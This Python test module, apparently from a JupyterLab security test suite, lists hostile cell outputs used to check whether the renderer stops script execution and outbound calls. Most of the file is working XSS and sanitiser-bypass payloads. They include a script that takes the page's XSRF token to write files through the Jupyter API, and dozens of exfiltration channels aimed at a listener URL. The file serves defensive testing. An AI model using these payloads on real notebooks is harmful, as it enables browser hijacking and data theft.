"""What a hostile cell shows to get hold of the person's browser: one cell per attempt.

An attempt wants one of three things, and the host sees which it got:

* to run a script with the page's rights: ``{js}`` makes a file through the Jupyter server, named as the attempt;
* to make the page call a foreign address, a way out for whatever the guest knows: ``{url}`` is heard on another port;
* to change the page outside its own output: ``proof`` is asked in the page.

What JupyterLab or Chromium stop anyway is ``in_depth``: it is tried, and does not count.
"""

from __future__ import annotations

import base64
import re
from dataclasses import dataclass

from tests.attacks.listener import Listener

_SCRIPT = """
for (const w of [self, parent, top]) try {
    const xsrf = w.document.cookie.match(/_xsrf=([^;]+)/)[1];
    w.fetch(w.origin + '/api/contents/NAME', {method: 'PUT', headers: {'X-XSRFToken': xsrf},
        body: JSON.stringify({type: 'file', format: 'text', content: 'reached'})});
    break;
} catch {}
"""

PRELUDE = r"""
import asyncio, base64, comm, ipywidgets as w
from IPython.display import HTML, Audio, Image, Javascript, Latex, Markdown, Math, SVG, Video, display, update_display
ip = get_ipython()

def bundle(data, **metadata):
    display(data, metadata=metadata, raw=True)

def model(name, view, module='@jupyter-widgets/controls', version='2.0.0', view_module=None, **state):
    "A widget's model that no class of ipywidgets has looked at."
    layout = 'IPY_MODEL_' + w.Layout().model_id
    state = {'_model_name': name, '_model_module': module, '_model_module_version': version, '_view_name': view,
             '_view_module': view_module or module, '_view_module_version': version, 'layout': layout, **state}
    return comm.create_comm(target_name='jupyter.widget', data={'state': state, 'buffer_paths': []},
                            metadata={'version': '2.1.0'})

def view(made):
    bundle({'application/vnd.jupyter.widget-view+json':
            {'model_id': made.comm_id, 'version_major': 2, 'version_minor': 0}, 'text/plain': 'a widget'})

def page(data):
    ip.payload_manager.write_payload({'source': 'page', 'data': data, 'start': 0})

elsewhere = display('another cell', display_id=True)
"""

# Whether an output covers the notebook, from corner to corner. (Lab draws nothing of a notebook outside its panel.)
COVERS = """output => {
    const all = document.querySelector('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-Notebook').getBoundingClientRect();
    return [all.top + 12, all.bottom - 12].every(
        y => document.elementsFromPoint(all.left + 12, y).some(e => output.contains(e)));
}"""


@dataclass(frozen=True)
class Payload:
    """One attempt.

    Attributes:
        name: The test's id, and what the host looks for.
        code: The cell, with ``{js}`` and ``{url}`` in it.
        act: What the person does with the output: a verb and a selector.
        proof: A function of the output that is asked in the page, for what makes neither a file nor a call.
        last: Whether it spoils the page for others.
        in_depth: What else stops it; it does not count then.
    """

    name: str
    code: str
    act: str = ""
    proof: str = ""
    last: bool = False
    in_depth: str = ""

    def __str__(self) -> str:
        return f"{self.name} (in depth)" if self.in_depth else self.name

    def cell(self, listener: Listener) -> str:
        """The cell's text."""
        url = f"{listener.url}/{self.name}"
        values = {
            "js": script(self.name),
            "name": self.name,
            "url": url,
            "stun": listener.stun(self.name) if "{stun}" in self.code else "",
            "bare": url.removeprefix("http:"),
            "backslashed": url.replace("/", "\\" * 2),  # within a string's repr
        }
        return re.sub(r"\{(" + "|".join(values) + r")\}", lambda found: values[found[1]], self.code)


def script(name: str) -> str:
    """JavaScript that makes a file of this name; without quotes, so that it fits into any."""
    return f"eval(atob(`{base64.b64encode(_SCRIPT.replace('NAME', name).encode()).decode()}`))"


def widget(name: str, markup: str, act: str = "", **more: str | bool) -> Payload:
    """Markup in a widget, whose links Lab leaves as they are."""
    return Payload(name, f"display(w.HTML({markup!r}))", act, **more)  # type: ignore[arg-type]


def html(name: str, markup: str, act: str = "", **more: str | bool) -> Payload:
    """Markup that is displayed."""
    return Payload(name, f"display(HTML({markup!r}))", act, **more)  # type: ignore[arg-type]


_IMG = '<img src=x onerror="{js}">'
_PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
_PICTURE = f"<img src='{_PIXEL}'"
_MERMAID = '%%{init: {"themeCSS": "* { background: url({url}) }"}}%%\\ngraph TD; A-->B'

ROUTES = [
    Payload("by-display", f"display(HTML('{_IMG}'))"),
    Payload("by-result", f"HTML('{_IMG}')"),
    Payload("by-repr-html", f"class A:\n    def _repr_html_(self): return '{_IMG}'\nA()"),
    Payload(
        "by-repr-mimebundle", f"class A:\n    def _repr_mimebundle_(self, **k): return {{'text/html': '{_IMG}'}}\nA()"
    ),
    Payload("by-ipython-display", f"class A:\n    def _ipython_display_(self): bundle({{'text/html': '{_IMG}'}})\nA()"),
    Payload("by-update", f"h = display('first', display_id=True)\nh.update(HTML('{_IMG}'))"),
    Payload("by-update-of-another-cell", f"update_display(HTML('{_IMG}'), display_id=elsewhere.display_id)"),
    Payload("by-raw-bundle", f"bundle({{'text/html': '{_IMG}', 'text/plain': 'x'}})"),
    Payload("by-list-of-lines", f"bundle({{'text/html': ['<b>', '{_IMG}', '</b>']}})"),
    Payload(
        "by-mime-in-capitals", f"bundle({{'Text/HTML': '{_IMG}'}})", in_depth="Lab knows mime types in small letters"
    ),
    Payload("by-mime-with-parameter", f"bundle({{'text/html; charset=utf-8': '{_IMG}'}})", in_depth="Lab: unknown"),
    Payload("isolated", "bundle({'text/html': '<script>{js}</script>'}, **{'text/html': {'isolated': True}})"),
    Payload(
        "isolated-svg",
        "bundle({'image/svg+xml': '<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{js}\"></svg>'},"
        " **{'image/svg+xml': {'isolated': True}})",
        in_depth="Lab draws it as an image",
    ),
    Payload("markdown-html", f"display(Markdown('''# A title\n\n{_IMG}'''))"),
    Payload("markdown-script", "display(Markdown('<script>{js}</script>'))"),
    Payload("markdown-image", "display(Markdown('![a picture]({url})'))"),
    Payload(
        "markdown-link", "display(Markdown('[click me](javascript:{js})'))", "click a", in_depth="a window of its own"
    ),
    Payload("markdown-autolink", "display(Markdown('<javascript:{js}>'))", "click a", in_depth="a window of its own"),
    Payload("markdown-table", f"display(Markdown('| a | b |\\n|---|---|\\n| 1 | {_IMG} |'))"),
    Payload("markdown-style", "display(Markdown('<style>#jp-top-panel { background: url({url}) }</style>'))"),
    Payload("markdown-mermaid", f"display(Markdown('''```mermaid\n{_MERMAID}\n```'''))"),
    Payload("markdown-mermaid-tilde", f"display(Markdown('''~~~mermaid\n{_MERMAID}\n~~~'''))"),
    Payload("markdown-mermaid-spaced", f"display(Markdown('''``` mermaid\n{_MERMAID}\n```'''))"),
    Payload(
        "markdown-mermaid-named",
        f"display(Markdown('''> ~~~~\tmermaid  x\n> {_MERMAID}\n> ~~~~'''))",
        in_depth="Lab takes it for another language",
    ),
    Payload("javascript", "display(Javascript('{js}'))"),
    Payload("javascript-text", "bundle({'text/javascript': '{js}'})"),
    Payload("javascript-library", "display(Javascript('1', lib='{url}'))"),
    Payload("javascript-result", "class A:\n    def _repr_javascript_(self): return '{js}'\nA()"),
    Payload("mermaid", f"bundle({{'text/vnd.mermaid': '''{_MERMAID}'''}})"),
    Payload("page", f"page({{'text/html': '{_IMG}', 'text/plain': 'help'}})"),
    Payload("page-script", "page({'text/html': '<script>{js}</script>'})"),
    Payload("page-markdown", f"page({{'text/markdown': '{_IMG}'}})"),
    Payload("page-javascript", "page({'application/javascript': '{js}'})"),
    Payload(
        "help",
        "class Thing: 'Its help.'\nip.enable_html_pager = True\nip.inspector.format_mime = lambda bundle: "
        f"{{'text/html': '{_IMG}', 'text/plain': 'help'}}\nip.run_line_magic('pinfo', 'Thing')\n"
        "del ip.inspector.format_mime; ip.enable_html_pager = False",
    ),
    Payload(
        "inspect",
        "ip.enable_html_pager = True\nip.object_inspect_mime = lambda *a, **k: "
        "{'text/html': '<img src={url}>', 'text/plain': 'help'}",
        "inspect len",
    ),
    Payload(
        "complete",
        f"ip.Completer.custom_matchers.append(lambda c: {{'completions': [__import__('IPython').core.completer."
        f"SimpleCompletion('victim{_IMG}', type='{_IMG}')]}})",
        "complete vic",
        in_depth="Lab's completer sanitises",
    ),
]

SCRIPTS = [
    html("script", "<script>{js}</script>"),
    html("script-module", "<script type=module>{js}</script>"),
    html("script-src", "<script src={url}></script>"),
    html("script-data", "<script src='data:text/javascript,{js}'></script>"),
    html("script-in-svg", "<svg><script>{js}</script></svg>"),
    html("script-in-math", "<math><mtext><script>{js}</script></mtext></math>"),
    html("script-in-capitals", "<ScRiPt>{js}</sCrIpT>"),
    html("script-after-nul", "<scr\0ipt>1</scr\0ipt><script/x>{js}</script>"),
    html(
        "script-import-map",
        '<script type=importmap>{"imports": {"x": "{url}"}}</script><script type=module>import \'x\'</script>',
    ),
    html("iframe-srcdoc", "<iframe srcdoc='<script>{js}</script>'></iframe>"),
    html("iframe-srcdoc-escaped", "<iframe srcdoc='&lt;img src=x onerror={js}&gt;'></iframe>"),
    html("iframe-javascript", '<iframe src="javascript:{js}"></iframe>'),
    widget("iframe-javascript-spaced", '<iframe src=" &#1;java&Tab;scr&NewLine;ipt&colon;{js}"></iframe>'),
    html("iframe-data", "<iframe src='data:text/html,<img src={url}>'></iframe>"),
    html("iframe-foreign", "<iframe src={url}></iframe>"),
    html(
        "iframe-same-origin",
        "<iframe sandbox='allow-scripts allow-same-origin' srcdoc='<script>{js}</script>'></iframe>",
    ),
    html(
        "iframe-two-sandboxes",
        "<iframe sandbox='allow-scripts allow-same-origin' sandbox='allow-scripts' srcdoc='<script>{js}</script>'></iframe>",
    ),
    html("iframe-in-iframe", "<iframe srcdoc='<iframe srcdoc=&quot;<script>{js}</script>&quot;></iframe>'></iframe>"),
    html("frame-broken-by-quote", '<script>1</script>"></iframe><img src=x onerror={js}>'),
    html(
        "frame-broken-by-entity",
        "<script>1</script>&quot;&gt;&lt;/iframe&gt;<img src=x onerror={js}><i title='&quot;&gt;<img src=x onerror={js}>'></i>",
    ),
    html("frame-broken-by-apostrophe", "<script>1</script>'></iframe><img src=x onerror={js}>"),
    html(
        "frame-broken-by-attributes",
        '<script>1</script>" sandbox="allow-scripts allow-same-origin" onload="{js}" x="<img src=x onerror={js}>',
    ),
    html("frame-broken-by-comment", "<script>1</script><!--></iframe>--!><img src=x onerror={js}>"),
    html(
        "frame-broken-by-textarea",
        "<script>1</script><textarea></iframe><script>{js}</script></textarea><img src=x onerror={js}>",
    ),
    html("frame-broken-by-amp", "<script>1</script>&amp;quot;&amp;gt;&#34;&#62;</iframe><img src=x onerror={js}>"),
    html(
        "frame-policy-replaced",
        "<script>1</script><meta http-equiv=Content-Security-Policy content='img-src *'><img src={url}>",
    ),
    html(
        "frame-policy-before",
        "<head><meta http-equiv=Content-Security-Policy content='default-src *'></head><script>1</script><img src={url}>",
    ),
    html("frame-in-frameset", "<script>1</script><frameset><frame src={url}></frameset><img src={url}>"),
]

_CALL = (
    "const call = new RTCPeerConnection({iceServers: [{urls: '{stun}'}]}); call.createDataChannel('x'); "
    "call.createOffer().then(o => call.setLocalDescription(o))"
)
# Scripts that have run may still not get anything out of their frame. All begin after their output is there.
_WAYS_OUT = {
    "location": "location = '{url}'",
    "location-of-parent": "parent.location = '{url}'",
    "location-of-top": "top.location = '{url}'",
    "location-of-sibling": "for (let i = 0; i < 40 && i < parent.frames.length; i++) try { parent.frames[i].location = '{url}' } catch {}",  # among them the one that is beside it
    "image": "new Image().src = '{url}'",
    "fetch": "fetch('{url}', {mode: 'no-cors'})",
    "beacon": "navigator.sendBeacon('{url}')",
    "socket": "new WebSocket('{url}'.replace('http', 'ws'))",
    "event-source": "new EventSource('{url}')",
    "window": "window.open('{url}')",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: '{url}'}))",
    "refresh": "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0;url={url}'}))",
    "link": "const a = document.body.appendChild(document.createElement('a')); a.href = '{url}'; a.click()",
    "form": "const f = document.body.appendChild(document.createElement('form')); f.action = '{url}'; f.submit()",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: '{url}'}))",
    "frame-srcdoc": "document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: '<script>location = `{url}`</' + 'script>'}))",
    "frame-javascript": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'javascript:location = `{url}`'}))",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(`{url}`, {mode: `no-cors`})'])))",
    "import": "import('{url}').catch(() => 0)",
    "style": "document.body.append(Object.assign(document.createElement('style'), {textContent: '.framed { background: url({url}) }'}))",
    "font": "new FontFace('x', 'url({url})').load().catch(() => 0)",
    "audio": "new Audio('{url}').play().catch(() => 0)",
    "report": "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'Content-Security-Policy', content: 'img-src *'})); new Image().src = '{url}'",
    "frame-blob": "document.body.append(Object.assign(document.createElement('iframe'), {src: URL.createObjectURL(new Blob(['<img src={url}>'], {type: 'text/html'}))}))",
    "stun": _CALL,
    "stun-in-frame": "document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: '<script>"
    + _CALL.replace("'", "`")
    + "</' + 'script>'}))",
    "parents-document": "parent.document.body.append(Object.assign(parent.document.createElement('img'), {src: '{url}'}))",
}
_SPOILS_THE_PAGE = {
    "report",
    "location-of-sibling",
    "location",
    "location-of-parent",
    "location-of-top",
    "refresh",
    "link",
    "form",
}
WAYS_OUT = [
    html(
        f"out-by-{name}",
        f"<p class=framed>A frame</p><iframe></iframe><script>setTimeout(() => {{ {code} }}, 50)</script>",
        last=name in _SPOILS_THE_PAGE,
    )
    for name, code in _WAYS_OUT.items()
]

_HANDLERS = [
    html("on-error", _IMG),
    html("on-load", _PICTURE + " onload={js}>"),
    html("on-load-of-svg", "<svg onload={js}></svg>", in_depth="no load event in markup that is set"),
    html("on-load-of-body", "<body onload={js}>", in_depth="a second body is no element"),
    html("on-load-of-style", "<style onload={js}>i {}</style>"),
    html("on-load-of-link", "<link rel=stylesheet href='data:text/css,' onload={js}>"),
    html("on-load-of-iframe", "<iframe onload={js}></iframe>"),
    html("on-error-of-script", "<script src=/nowhere.js onerror={js}></script>"),
    html("on-error-of-video", "<video src=x onerror={js}></video>"),
    html("on-error-of-audio", "<audio src=x onerror={js}></audio>"),
    html("on-error-of-source", "<video><source src=x onerror={js}></video>"),
    html("on-error-of-input", "<input type=image src=x onerror={js}>"),
    html("on-error-of-svg-image", "<svg><image href=x onerror={js} /></svg>"),
    html("on-error-of-track", "<video controls><track default src=x onerror={js}></video>"),
    html("on-toggle", "<details open ontoggle={js}><summary>more</summary></details>"),
    html("on-toggle-clicked", "<details ontoggle={js}><summary>more</summary>text</details>", "click summary"),
    html("on-animation", "<style>@keyframes k {}</style><i style='animation: k 1s' onanimationstart={js}>x</i>"),
    html(
        "on-animation-of-lab",
        "<i style='animation: jp-spin 1s, fa-spin 1s, spin 1s' onanimationstart={js} onwebkitanimationstart={js}>x</i>",
    ),
    html(
        "on-transition",
        "<style>.tr { transition: color .01s } .tr:hover { color: red }</style><b class=tr ontransitionend={js}>hover</b>",
        "hover b",
    ),
    html("on-begin", "<svg><animate onbegin={js} attributeName=x dur=1s /></svg>"),
    html("on-end", "<svg><set onend={js} attributeName=x dur=.01s /></svg>"),
    html("on-focus", "<input onfocus={js}>", "click input"),
    html("on-autofocus", "<input autofocus onfocus={js}>", "click input"),
    html(
        "on-focus-in-svg",
        "<svg width=50 height=50><a tabindex=0 onfocus={js}><rect width=50 height=50 /></a></svg>",
        "click a",
    ),
    html("on-blur", "<input onblur={js}>", "key input"),
    html("on-click", "<b onclick={js}>click</b>", "click b"),
    html("on-double-click", "<b ondblclick={js}>click twice</b>", "dblclick b"),
    html("on-context-menu", "<b oncontextmenu={js}>right</b>", "rightclick b"),
    html("on-middle-click", "<b onauxclick={js}>middle</b>", "middleclick b"),
    html("on-mouse-over", "<b onmouseover={js}>over</b>", "hover b"),
    html("on-pointer-enter", "<b onpointerenter={js}>over</b>", "hover b"),
    html("on-key", "<input onkeydown={js}>", "key input"),
    html("on-input", "<input oninput={js}>", "key input"),
    html("on-edit", "<p contenteditable onbeforeinput={js}>edit</p>", "key p"),
    html("on-select", "<input onselect={js} value=text>", "dblclick input"),
    html("on-copy", "<b contenteditable oncopy={js}>copy</b>", "copy b"),
    html("on-wheel", "<b onwheel={js}>wheel</b>", "wheel b"),
    html(
        "on-scroll",
        "<div style='height: 20px; overflow: scroll' onscroll={js}><p style='height: 500px'>x</p></div>",
        "wheel div[onscroll], div[style]",
    ),
    html("on-drag", "<b draggable=true ondragstart={js}>drag</b>", "drag b"),
    html("on-drop", "<p draggable=true>drag</p><b ondragover={js} ondrop={js}>drop here</b>", "drag p to b"),
    html("on-submit", "<form onsubmit='{js};return false'><button>go</button></form>", "click button"),
    html("on-invalid", "<form><input required oninvalid={js}><button>go</button></form>", "click button"),
    html(
        "on-popover",
        "<button popovertarget=pop1>open</button><div popover id=pop1 onbeforetoggle={js}>x</div>",
        "click button",
    ),
    html(
        "on-content-visibility", "<div style='content-visibility: auto' oncontentvisibilityautostatechange={js}>x</div>"
    ),
    html(
        "on-play",
        "<audio controls autoplay muted loop onplay={js} src='data:audio/wav;base64,UklGRiYAAABXQVZFZm10IBAAAAABAAEAgD4AAIA+AAABAAgAZGF0YQIAAACAgA=='></audio>",
    ),
    html("on-unknown-tag", "<blink-tag tabindex=0 onfocusin={js}>x</blink-tag>", "click blink-tag"),
    html("on-with-slashes", "<img/src='x'/onerror={js}>"),
    html("on-with-entities", "<img src=x onerror='&#101;&#118;al(1);{js}'>"),
    html("on-in-table", "<table><tr><td><img src=x onerror={js}></td></tr></table>"),
]

# What a sanitiser's parser reads as text, and the browser, which reads the result again, might not. Each holds a plain
# image as well, by which it gets through where nothing is sanitised.
_SHAPES = {
    "math-mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
    "math-style": "<math><style><img src=x onerror={js}></style></math>",
    "math-annotation": "<math><annotation-xml encoding='text/html'><style><img src=x onerror={js}></style></annotation-xml></math>",
    "math-malignmark": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "math-nested-forms": "<form id=f><div></form><form id=g><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={js} src=x>'>",
    "svg-style": "<svg><style><img src=x onerror={js}></style></svg>",
    "svg-paragraph": "<svg></p><style><a id='</style><img src=x onerror={js}>'>",
    "svg-title": "<svg><title><style><img src=x onerror={js}></style></title></svg>",
    "svg-desc": "<svg><desc><noscript><p title='</noscript><img src=x onerror={js}>'></noscript></desc></svg>",
    "svg-cdata": "<svg><![CDATA[><img src=x onerror={js}>]]></svg>",
    "svg-foreign": "<svg><foreignObject><style><!--</style><img title='--><img src=x onerror={js}>'></style></foreignObject></svg>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
    "noembed": "<noembed><p title='</noembed><img src=x onerror={js}>'></noembed>",
    "noframes": "<noframes><p title='</noframes><img src=x onerror={js}>'></noframes>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror={js}>'></xmp>",
    "plaintext": "<plaintext><img src=x onerror={js}>",
    "textarea": "<textarea><p title='</textarea><img src=x onerror={js}>'></textarea>",
    "title": "<title><p title='</title><img src=x onerror={js}>'></title>",
    "iframe-text": "<iframe><p title='</iframe><img src=x onerror={js}>'></iframe>",
    "select-style": "<select><style><p title='</style><img src=x onerror={js}>'></style></select>",
    "style-comment": "<style><!--</style><img src=x title='--></style><img src=x onerror={js}>'>",
    "template": "<template><p title='</template><img src=x onerror={js}>'></template>",
    "template-shadow": "<div><template shadowrootmode=open><img src=x onerror={js}></template></div>",
    "comment-bang": "<!--!><img src=x onerror={js}>--!><i title='--><img src=x onerror={js}>'></i>",
    "comment-bogus": "<!x '><img src=x onerror={js}>'><?php '><img src=x onerror={js}>' ?>",
    "comment-dashes": "<!--><img title='--><img src=x onerror={js}>'>",
    "attribute-backtick": "<img alt='`` onerror={js} x=``' src=x:x>",
    "entity-twice": "&lt;img src=x onerror={js}&gt;<i title='&amp;lt;img src=x onerror={js}&amp;gt;'></i>",
    "table-in-math": "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src=x onerror={js}>'></style></h1>",
    "deep": "<div>" * 600
    + "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
    "is-element": "<img is='x' src=x:x><svg><a is='x' title='</svg><img src=x onerror={js}>'></a></svg>",
    "nul": "<i title='\0'>\0<\0img src=x onerror={js}></i>",
    "unicode-spaces": "<i\u00a0onclick={js}\u2028x='<img src=x onerror={js}>'>x</i>",
}
SHAPES = [html(f"shape-{name}", f"<img src={{url}}>{markup}") for name, markup in _SHAPES.items()]

_NAMESPACES = [
    html(
        "svg-link",
        "<svg width=50 height=50><a xlink:href='javascript:{js}'><rect width=50 height=50 /></a></svg>",
        "click rect",
    ),
    html(
        "svg-link-animated",
        "<svg width=50 height=50><a><rect width=50 height=50 /><animate attributeName=href values='javascript:{js}' dur=1s fill=freeze /></a></svg>",
        "click rect",
    ),
    html(
        "svg-link-set",
        "<svg width=50 height=50><a><rect width=50 height=50 /><set attributeName=href to='javascript:{js}' begin=0s /></a></svg>",
        "click rect",
    ),
    html(
        "svg-animated-handler",
        "<svg><set attributeName=onmouseover to={js} /><rect width=50 height=50 /></svg>",
        "hover rect",
        in_depth="handlers are not animated",
    ),
    html("svg-image", "<svg><image href={url} /></svg>"),
    html("svg-image-xlink", "<svg><image xlink:href={url} /></svg>"),
    html(
        "svg-image-animated",
        f"<svg><image href='{_PIXEL}' width=9 height=9><set attributeName=href to={{url}} begin=0s /></image></svg>",
    ),
    html(
        "svg-fe-image",
        "<svg width=50 height=50><filter id=fe1><feImage href={url} /></filter><rect width=50 height=50 filter='url(#fe1)' /></svg>",
    ),
    html("svg-use", "<svg><use href='{url}#x' /></svg>", in_depth="only of the same origin"),
    html(
        "svg-use-data",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{js}</script></svg>#x' /></svg>",
        in_depth="Chromium reads no data: there",
    ),
    html(
        "svg-filter",
        "<svg><rect width=50 height=50 style='fill: url({url}#x); filter: url({url}#x); mask: url({url}#x)' /></svg>",
    ),
    html(
        "svg-attribute-url",
        "<svg><rect width=50 height=50 mask='url({url}#x)' clip-path='url({url}#x)' cursor='url({url})' /></svg>",
    ),
    html("svg-style-import", "<svg><style>@import '{url}';</style></svg>"),
    html(
        "svg-foreign-object",
        "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></iframe></foreignObject></svg>",
    ),
    html("svg-foreign-image", "<svg><foreignObject><img src={url}></foreignObject></svg>"),
    html(
        "svg-handler-element",
        "<svg><handler type=text/javascript>{js}</handler></svg>",
        in_depth="nobody knows it any more",
    ),
    Payload(
        "svg-mime",
        'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><image href="{url}"/></svg>\'))',
        in_depth="Lab draws it as an image",
    ),
    html(
        "math-link",
        "<math><mtext href='javascript:{js}' xlink:href='javascript:{js}'>click</mtext></math>",
        "click mtext",
        in_depth="Chromium has no links in MathML",
    ),
    html(
        "math-action",
        "<math><maction actiontype='statusline#x' xlink:href='javascript:{js}'>click<mtext>y</mtext></maction></math>",
        "click maction",
        in_depth="Chromium has none",
    ),
    html(
        "math-html-inside", "<math><annotation-xml encoding=text/html><img src=x onerror={js}></annotation-xml></math>"
    ),
]

_NEW_WINDOW = "Lab opens links in a window that knows nothing of it"
_ADDRESSES = [
    html("image", "<img src={url}>"),
    html("image-set", "<img srcset='{url} 1x'>"),
    html("image-relative-protocol", "<img src='{bare}'>"),
    html("image-lazy", "<img loading=lazy src={url}>"),
    html("image-backslashes", "<img src='{backslashed}'>"),
    html("image-spaced", "<img src='\t\n {url}'>"),
    html("picture", f"<picture><source srcset={{url}}>{_PICTURE}></picture>"),
    html("video", "<video src={url} autoplay muted></video>"),
    html("video-poster", "<video poster={url}></video>"),
    html("audio", "<audio src={url} preload=auto></audio>"),
    html(
        "track",
        "<video src='data:video/mp4,'><track default src={url}></video>",
        in_depth="only with a film that plays",
    ),
    html("input-image", "<input type=image src={url}>"),
    html("object", "<object data={url}></object>"),
    html("embed", "<embed src={url}>"),
    html("applet", "<applet archive={url} code=x></applet>", in_depth="nobody knows it any more"),
    html("link-style", "<link rel=stylesheet href={url}>"),
    html("link-icon", "<link rel=icon href={url}>", in_depth="a browser without a window has no icons"),
    html("link-preload", "<link rel=preload as=image href={url}>"),
    html("link-prefetch", "<link rel=prefetch href={url}>"),
    html("link-modulepreload", "<link rel=modulepreload href={url}>"),
    html("link-manifest", "<link rel=manifest href={url}>", in_depth="read when somebody installs"),
    html("background-attribute", "<table background={url}><tr><td>x</td></tr></table>"),
    html("background-of-cell", "<table><tr><td background={url}>x</td></tr></table>"),
    html("meta-refresh", "<meta http-equiv=refresh content='0;url={url}'>", last=True),
    html("base", "<base href='{url}/'><img src='picture.png'>", last=True),
    html("form-clicked", "<form action={url}><button>go</button></form>", "click button"),
    html("form-action-javascript", "<form action='javascript:{js}'><button>go</button></form>", "click button"),
    html("form-formaction", "<form><button formaction='javascript:{js}'>go</button></form>", "click button"),
    html(
        "form-elsewhere",
        "<form id=form1 action={url} target=_blank></form><button form=form1>go</button>",
        "click button",
    ),
    html("form-image", "<form action={url}><input type=image alt=go></form>", "click input"),
    widget("link-javascript", "<a href='javascript:{js}'>click</a>", "click a"),
    widget("link-javascript-spaced", "<a href='&#14; java\tscr\nipt:{js}'>click</a>", "click a"),
    widget("link-javascript-entities", "<a href='&#106;avascript&colon;{js}'>click</a>", "click a"),
    widget("link-javascript-in-capitals", "<a href='JaVaScRiPt:{js}'>click</a>", "click a"),
    html("link-javascript-in-lab", "<a href='javascript:{js}'>click</a>", "click a", in_depth=_NEW_WINDOW),
    html(
        "link-javascript-blank",
        "<a target=_blank rel=opener href='javascript:opener.{js}'>click</a>",
        "click a",
        in_depth=_NEW_WINDOW,
    ),
    html(
        "link-vbscript-data",
        "<a href='data:text/html,<img src={url}>'>click</a>",
        "click a",
        in_depth="no page may go to data:",
    ),
    html("link-ping", "<a href='#x' ping={url}>click</a>", "click a"),
    widget("link-opener", "<a target=_blank rel=opener href='{url}/opener'>click</a>", "click a"),
    widget("link-named-window", "<a target=wanted href='{url}/opener'>click</a>", "click a"),
    widget(
        "area",
        "<img usemap=#map1 width=90 height=90 src='"
        + _PIXEL
        + "'><map name=map1><area shape=default href='javascript:{js}'></map>",
        "click area",
    ),
    html(
        "lab-command",
        '<a href=# data-commandlinker-command=docmanager:new-untitled data-commandlinker-args=\'{"path": "", "type": "file", "ext": ".{name}"}\'>click</a>',
        "click a",
    ),
    html(
        "lab-command-button",
        '<button data-commandlinker-command=docmanager:new-untitled data-commandlinker-args=\'{"path": "", "type": "file", "ext": ".{name}"}\'>click</button>',
        "click button",
    ),
    Payload(
        "lab-command-markdown",
        'display(Markdown(\'<b data-commandlinker-command=docmanager:new-untitled data-commandlinker-args=\\\'{"path": "", "type": "file", "ext": ".{name}"}\\\'>click</b>\'))',
        "click b",
    ),
    html(
        "image-map-ping",
        "<img usemap=#map2 width=90 height=90 src='"
        + _PIXEL
        + "'><map name=map2><area shape=default href='#x' ping={url}></map>",
        "click area",
    ),
    html(
        "speculation-rules",
        '<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["{url}"]}]}</script>',
        in_depth="switched off without a window",
    ),
]

_STYLES = [
    html("style-attribute", "<p style='background: url({url})'>x</p>"),
    html("style-attribute-escaped", "<p style='background: u\\72l({url})'>x</p>"),
    html("style-attribute-string", "<p style='background: url(\"{url}\")'>x</p>"),
    html("style-attribute-comment", "<p style='background: /**/ url({url}) /**/'>x</p>"),
    html("style-attribute-important", "<p style='x:y;;background-image:url({url})!important'>x</p>"),
    html("style-attribute-image-set", "<p style='background-image: image-set(\"{url}\" 1x)'>x</p>"),
    html("style-attribute-webkit-image-set", "<p style='background-image: -webkit-image-set(url({url}) 1x)'>x</p>"),
    html(
        "style-attribute-cross-fade",
        "<p style='background-image: -webkit-cross-fade(url({url}), url({url}), 50%)'>x</p>",
    ),
    html("style-attribute-list", "<ul><li style='list-style: url({url})'>x</li></ul>"),
    html("style-attribute-cursor", "<p style='cursor: url({url}), auto'>hover</p>", "hover p"),
    html("style-attribute-content", "<p style='content: url({url})'>x</p>"),
    html("style-attribute-border", "<p style='border: 9px solid; border-image: url({url}) 9'>x</p>"),
    html("style-attribute-mask", "<p style='-webkit-mask: url({url}); mask: url({url})'>x</p>"),
    html("style-attribute-filter", "<p style='filter: url({url}#x)'>x</p>", in_depth="only of the same origin"),
    html("style-attribute-shape", "<p style='float: left; shape-outside: url({url})'>x</p>"),
    html("style-attribute-variable", "<p style='--x: url({url}); background: var(--x)'>x</p>"),
    html("style-attribute-variable-unset", "<p style='background: var(--none, url({url}))'>x</p>"),
    html("style-attribute-unclosed", "<p style='background: url({url}'>x</p>"),
    html("style-attribute-bad-string", "<p style='x: \"\n; background: url({url})'>x</p>"),
    html("style-url", "<style>.s1 { background: url({url}) }</style><p class=s1>x</p>"),
    html("style-import", "<style>@import '{url}';</style>"),
    html("style-import-url", "<style>@import url({url}) screen;</style>"),
    html("style-import-layered", "<style>@layer a; @import url({url}) layer(b);</style>"),
    html("style-import-escaped", "<style>@\\69mport '{url}';</style>"),
    html("style-import-data", "<style>@import 'data:text/css,@import \"{url}\";';</style>"),
    html("style-import-after-charset", "<style>@charset 'x';@IMPORT '{url}';</style>"),
    html(
        "style-font",
        "<style>@font-face { font-family: f1; src: url({url}) } .f1 { font-family: f1 }</style><p class=f1>x</p>",
    ),
    html(
        "style-font-of-characters",
        "<style>@font-face { font-family: f2; src: url({url}); unicode-range: U+0061 } .f2 { font-family: f2 }</style><p class=f2>a</p>",
    ),
